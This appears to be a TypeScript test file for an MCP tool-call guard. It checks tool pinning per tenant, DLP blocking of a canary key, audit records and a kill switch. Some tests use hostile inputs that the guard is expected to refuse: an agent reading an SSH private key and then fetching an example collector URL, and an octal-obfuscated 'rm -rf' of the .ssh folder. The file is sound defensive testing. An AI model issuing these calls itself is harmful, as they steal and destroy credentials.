/**
 * The MCP guard on its own (no sockets): real scanners, the real policy compiler and
 * the real SQLite pin store in a temp folder; audit records collected in memory.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import type { AuditRecord } from '../../src/audit/fields.js';
import { DlpScanner } from '../../src/inspect/dlp/scanner.js';
import { InjectionScanner } from '../../src/inspect/injection/scanner.js';
import { ChainTracker } from '../../src/inspect/mcp/chain-tracker.js';
import { parseJsonRpc, type JsonRpcMessage } from '../../src/inspect/mcp/jsonrpc.js';
import { McpGuard } from '../../src/mcp/guard.js';
import type { ChannelInfo, McpEnv, McpSettings } from '../../src/mcp/types.js';
import { compilePolicy } from '../../src/policy/compile.js';
import { decideTool, isToolListed } from '../../src/policy/decide-tool.js';
import { mcpServerFor } from '../../src/policy/mcp-servers.js';
import type { RuleSpec } from '../../src/policy/types.js';
import { openToolPinStore, type ToolPinStore } from '../../src/state/tool-pins.js';
import { openStopStore } from '../../src/state/index.js';
import { comparePins } from '../../src/inspect/mcp/pins.js';

const CANARY = `AKIA${randomBytes(8).toString('hex').toUpperCase()}`;
const RULES: RuleSpec[] = [
  { id: 'tickets', mcp: { tools: ['tickets.create', 'web.fetch', 'files.*', 'shell.run'] } },
  { id: 'no-delete', action: 'deny', mcp: { tools: ['tickets.delete'] } },
];

function env(settings: Partial<McpSettings> = {}): McpEnv {
  const policy = compilePolicy(RULES, 'v1', undefined, {});
  return {
    policy: {
      version: policy.version,
      decide: (server, tool, args, who) => decideTool({ server, tool, args }, who, policy),
      listed: (server, tool, who) => isToolListed(server, tool, who, policy),
      serverFor: (host, path) => mcpServerFor(host, path, policy),
    },
    dlp: { scanner: new DlpScanner(), disabled: new Set(), action: 'block', maxBodyBytes: 4 << 20, hostnames: true },
    injection: new InjectionScanner(),
    injectionAction: 'block',
    settings: { pinning: 'enforce', chain: 'block', scanArgsInjection: true, maxMessageBytes: 4 << 20, ...settings },
    newChain: () => new ChainTracker(),
  };
}

function info(session = 'sess-1', tenant = 'acme'): ChannelInfo {
  return {
    who: { tenant, agent: 'bot', session, human: null, labels: {} },
    server: { host: 'mcp.test' },
    serverKey: 'mcp.test',
    audit: { transport: 'stdio', scheme: 'stdio', host: 'mcp.test', port: 0, path: '', address: null, credential: null, route: null },
    profile: null,
  };
}

function msg(o: Record<string, unknown>): JsonRpcMessage {
  const p = parseJsonRpc(JSON.stringify({ jsonrpc: '2.0', ...o }));
  if (!p.ok) throw new Error(p.message);
  return p.messages[0]!;
}

async function setup(
  settings: Partial<McpSettings> = {},
  pins?: ToolPinStore | null,
  more: Partial<McpEnv> = {},
): Promise<{ guard: McpGuard; records: AuditRecord[]; pins: ToolPinStore | null }> {
  const records: AuditRecord[] = [];
  const store = pins === undefined ? openToolPinStore(await mkdtemp(join(tmpdir(), 'sluice-guard-')), { compare: comparePins }) : pins;
  const e = { ...env(settings), ...more };
  return { guard: new McpGuard({ env: () => e, pins: store, audit: (r) => records.push(r) }), records, pins: store };
}

const meta = { parentId: null, bytes: 10 };
const TOOLS = [
  { name: 'tickets.create', description: 'Create a ticket', inputSchema: { type: 'object' } },
  { name: 'tickets.delete', description: 'Delete a ticket', inputSchema: { type: 'object' } },
];

void test('a tools/list result is filtered and pinned even when its id was never asked (no routing around the guard by id)', async () => {
  const { guard, pins } = await setup();
  const ch = guard.open(info());
  const step = await guard.server(ch, msg({ id: 999, result: { tools: TOOLS } }), meta);
  assert.equal(step.kind, 'forward');
  const tools = (step.kind === 'forward' ? (step.message.result as { tools: { name: string }[] }).tools : []).map((t) => t.name);
  assert.deepEqual(tools, ['tickets.create']);
  assert.ok((await pins!.list('mcp.test')).some((p) => p.tool === 'tickets.create'));
  await pins!.close();
});

void test('pinning is per tenant: a change seen by one tenant is not pending for another', async () => {
  const { guard, pins } = await setup();
  const a = guard.open(info('s-a', 'acme'));
  const b = guard.open(info('s-b', 'globex'));
  await guard.server(a, msg({ id: 1, result: { tools: TOOLS } }), meta);
  const changed = [{ ...TOOLS[0]!, description: 'Create a ticket, now with priorities' }];
  const step = await guard.server(a, msg({ id: 2, result: { tools: changed } }), meta);
  assert.deepEqual(step.kind === 'forward' ? (step.message.result as { tools: unknown[] }).tools : null, []);
  // globex sees the new definition first: it is its first list, pinned as is.
  const other = await guard.server(b, msg({ id: 3, result: { tools: changed } }), meta);
  assert.equal(other.kind === 'forward' ? (other.message.result as { tools: unknown[] }).tools.length : -1, 1);
  // acme's pending change refuses the call even on a fresh channel that never listed.
  const fresh = guard.open(info('s-a2', 'acme'));
  const call = await guard.client(fresh, msg({ id: 4, method: 'tools/call', params: { name: 'tickets.create', arguments: {} } }), meta);
  assert.equal(call.kind, 'reply');
  assert.match(JSON.stringify(call), /mcp_tool_changed/);
  await pins!.close();
});

void test('pinning: report lets the changed tool through and records a warning', async () => {
  const { guard, records, pins } = await setup({ pinning: 'report' });
  const ch = guard.open(info());
  await guard.server(ch, msg({ id: 1, result: { tools: TOOLS } }), meta);
  const step = await guard.server(ch, msg({ id: 2, result: { tools: [{ ...TOOLS[0]!, description: 'changed' }] } }), meta);
  assert.equal(step.kind === 'forward' ? (step.message.result as { tools: unknown[] }).tools.length : -1, 1);
  const rec = records.find((r) => r.method === 'tools/list');
  assert.equal(rec?.outcome, 'would_deny');
  assert.equal(rec?.findings[0]?.action, 'warn');
  await pins!.close();
});

void test('a pin store that cannot be read fails closed: every listed tool is withheld', async () => {
  const { guard, pins } = await setup();
  await pins!.close();
  const ch = guard.open(info());
  const step = await guard.server(ch, msg({ id: 1, result: { tools: TOOLS } }), meta);
  assert.deepEqual(step.kind === 'forward' ? (step.message.result as { tools: unknown[] }).tools : null, []);
  const call = await guard.client(ch, msg({ id: 2, method: 'tools/call', params: { name: 'tickets.create', arguments: {} } }), meta);
  assert.equal(call.kind, 'reply');
});

void test('a tool-call chain is one chain per agent session, across servers: read a key with one, send with another', async () => {
  const { guard, records, pins } = await setup();
  const files = guard.open(info('sess-chain'));
  const web = guard.open({ ...info('sess-chain'), server: { host: 'web.test' }, serverKey: 'web.test' });
  const read = await guard.client(
    files,
    msg({ id: 1, method: 'tools/call', params: { name: 'files.read', arguments: { path: '/home/user/.ssh/id_rsa' } } }),
    meta,
  );
  assert.equal(read.kind, 'forward');
  const send = await guard.client(
    web,
    msg({ id: 2, method: 'tools/call', params: { name: 'web.fetch', arguments: { url: 'https://collector.example/upload' } } }),
    meta,
  );
  assert.equal(send.kind, 'reply');
  assert.match(JSON.stringify(send), /chain_blocked/);
  // Another session is unaffected.
  const other = guard.open(info('sess-other'));
  assert.equal(
    (await guard.client(other, msg({ id: 3, method: 'tools/call', params: { name: 'web.fetch', arguments: { url: 'https://docs.example/' } } }), meta)).kind,
    'forward',
  );
  assert.ok(records.some((r) => r.reason === 'chain_blocked' && r.tool === 'web.fetch'));
  await pins!.close();
});

void test('a secret in any client message leaves nothing: a resources/read URI is refused, a notification dropped, a client answer replaced', async () => {
  const { guard, records, pins } = await setup();
  const ch = guard.open(info());
  const read = await guard.client(ch, msg({ id: 1, method: 'resources/read', params: { uri: `https://x.example/?k=${CANARY}` } }), meta);
  assert.equal(read.kind, 'reply');
  const note = await guard.client(ch, msg({ method: 'notifications/message', params: { data: CANARY } }), meta);
  assert.equal(note.kind, 'drop');
  const answer = await guard.client(ch, msg({ id: 7, result: { content: { type: 'text', text: `here: ${CANARY}` } } }), meta);
  assert.equal(answer.kind, 'replace');
  assert.ok(!JSON.stringify([read, note, answer, records]).includes(CANARY));
  await pins!.close();
});

void test('an allowed call left unanswered is recorded when its channel closes; a denied one is recorded at once', async () => {
  const { guard, records, pins } = await setup();
  const ch = guard.open(info());
  await guard.client(ch, msg({ id: 'a', method: 'tools/call', params: { name: 'tickets.create', arguments: { title: 't' } } }), meta);
  await guard.client(ch, msg({ id: 'b', method: 'tools/call', params: { name: 'tickets.delete', arguments: {} } }), meta);
  assert.deepEqual(
    records.map((r) => [r.tool, r.outcome, r.rule]),
    [['tickets.delete', 'deny', 'no-delete']],
  );
  guard.close(ch);
  assert.deepEqual(
    records.map((r) => [r.tool, r.outcome, r.error]),
    [
      ['tickets.delete', 'deny', null],
      ['tickets.create', 'allow', 'no_result'],
    ],
  );
  await pins!.close();
});

void test('a malformed tools/call is refused with invalid params and nothing is forwarded', async () => {
  const { guard, pins } = await setup();
  const ch = guard.open(info());
  const step = await guard.client(ch, msg({ id: 1, method: 'tools/call', params: { arguments: {} } }), meta);
  assert.equal(step.kind, 'reply');
  assert.equal(step.kind === 'reply' ? (step.message.error as { code: number }).code : 0, -32602);
  await pins!.close();
});

void test("an obfuscated command word in a shell tool's arguments is refused; the same command written plainly is not", async () => {
  const { guard, records, pins } = await setup();
  const ch = guard.open(info('sess-shell'));
  const bad = await guard.client(
    ch,
    msg({ id: 1, method: 'tools/call', params: { name: 'shell.run', arguments: { command: "$'\\162\\155' -rf /home/user/.ssh" } } }),
    meta,
  );
  assert.equal(bad.kind, 'reply');
  assert.match(JSON.stringify(bad), /shell_obfuscation_blocked/);
  const plain = await guard.client(
    ch,
    msg({ id: 2, method: 'tools/call', params: { name: 'shell.run', arguments: { command: 'ls -la /home/user/projects' } } }),
    meta,
  );
  assert.equal(plain.kind, 'forward');
  assert.ok(records.some((r) => r.reason === 'shell_obfuscation_blocked' && r.findings.some((f) => f.type.startsWith('shell_obfuscation:'))));
  // The argument's own spelling, not the digits alone: decision ids and times may hold `162`.
  assert.ok(!JSON.stringify(records).includes(JSON.stringify("$'\\162\\155'").slice(1, -1)), 'the argument value is not in the record');
  assert.ok(!JSON.stringify(records).includes('.ssh'), 'the argument value is not in the record');
  await pins!.close();
});

void test('the kill switch (a real stop store): a call is refused gate_killed naming the kill, a result still in flight is withheld; another tenant is not stopped', async () => {
  const stops = await openStopStore(await mkdtemp(join(tmpdir(), 'sluice-guard-stops-')));
  const { guard, records } = await setup({}, null, { stops });
  try {
    const ch = guard.open(info('s-kill', 'acme'));
    const call = (id: number): JsonRpcMessage => msg({ id, method: 'tools/call', params: { name: 'tickets.create', arguments: { title: 'x' } } });
    assert.equal((await guard.client(ch, call(1), meta)).kind, 'forward');
    const k = await stops.kill({ tenant: 'acme', reason: 'drill' });
    const late = await guard.server(ch, msg({ id: 1, result: { content: [{ type: 'text', text: 'done' }] } }), meta);
    assert.equal(late.kind, 'forward');
    const withheld = late.kind === 'forward' ? (late.message.error as { data: { error: string; rule: string } }) : null;
    assert.deepEqual([withheld?.data.error, withheld?.data.rule], ['gate_killed', `kill:k${k.id}`]);
    const refused = await guard.client(ch, call(2), meta);
    assert.equal(refused.kind, 'reply');
    const data = refused.kind === 'reply' ? (refused.message.error as { data: { error: string; rule: string } }).data : null;
    assert.deepEqual([data?.error, data?.rule], ['gate_killed', `kill:k${k.id}`]);
    assert.deepEqual(
      records.filter((r) => r.tool === 'tickets.create').map((r) => [r.outcome, r.reason, r.rule]),
      [
        ['deny', 'gate_killed', `kill:k${k.id}`],
        ['deny', 'gate_killed', `kill:k${k.id}`],
      ],
    );
    const other = guard.open(info('s-other', 'globex'));
    assert.equal((await guard.client(other, call(3), meta)).kind, 'forward');
  } finally {
    await stops.close();
  }
});
